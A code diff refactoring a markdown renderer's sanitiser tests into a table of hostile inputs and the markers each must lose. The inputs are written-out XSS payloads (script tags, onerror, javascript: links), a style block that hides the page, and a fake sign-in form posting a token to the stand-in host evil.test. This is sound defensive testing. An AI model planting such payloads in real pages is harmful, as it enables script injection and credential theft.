@@ -14,37 +14,38 @@ describe('renderMarkdown', () => {
     expect(html).toContain('<td>1</td>');
   });
 
-  it('keeps script and event-handler payloads inert', () => {
-    const { html } = render(
-      '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>',
-    );
-    expect(html).not.toContain('<script');
-    expect(html).not.toContain('onerror');
-    expect(html).not.toContain('javascript:');
-  });
-
-  it('lets a document neither restyle the app nor use its classes', () => {
-    const { html } = render(
-      '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0" class="modal">over</div>',
-    );
-    expect(html).not.toContain('<style');
-    expect(html).not.toContain('display: none');
-    expect(html).not.toContain('style=');
-    expect(html).not.toContain('class=');
-    expect(html).toContain('over');
-  });
-
-  it('drops forms and their controls, so no fake sign-in can post a token elsewhere', () => {
-    const { html } = render(
-      '<form action="https://evil.test/collect" method="post"><p>Session expired</p>' +
+  // Hostile markup a document may carry: each row names what must be gone and what stays.
+  const hostile = [
+    {
+      what: 'keeps script and event-handler payloads inert',
+      source: '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>',
+      gone: ['<script', 'onerror', 'javascript:'],
+      kept: [],
+    },
+    {
+      what: 'lets a document neither restyle the app nor use its classes',
+      source:
+        '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0" class="modal">over</div>',
+      gone: ['<style', 'display: none', 'style=', 'class='],
+      kept: ['over'],
+    },
+    {
+      what: 'drops forms and their controls, so no fake sign-in can post a token elsewhere',
+      source:
+        '<form action="https://evil.test/collect" method="post"><p>Session expired</p>' +
         '<input name="token"><textarea></textarea><select><option>a</option></select>' +
         '<button formaction="https://evil.test/x">Send</button></form>',
-    );
-    for (const marker of ['<form', 'action=', '<input', '<textarea', '<select', '<button', 'evil.test']) {
-      expect(html, marker).not.toContain(marker);
-    }
-    expect(html).toContain('Session expired');
-  });
+      gone: ['<form', 'action=', '<input', '<textarea', '<select', '<button', 'evil.test'],
+      kept: ['Session expired'],
+    },
+  ];
+  for (const { what, source, gone, kept } of hostile) {
+    it(what, () => {
+      const { html } = render(source);
+      for (const marker of gone) expect(html, marker).not.toContain(marker);
+      for (const text of kept) expect(html, text).toContain(text);
+    });
+  }
 
   it('holds external images back, per host, and keeps local and data images', () => {
     const source = [
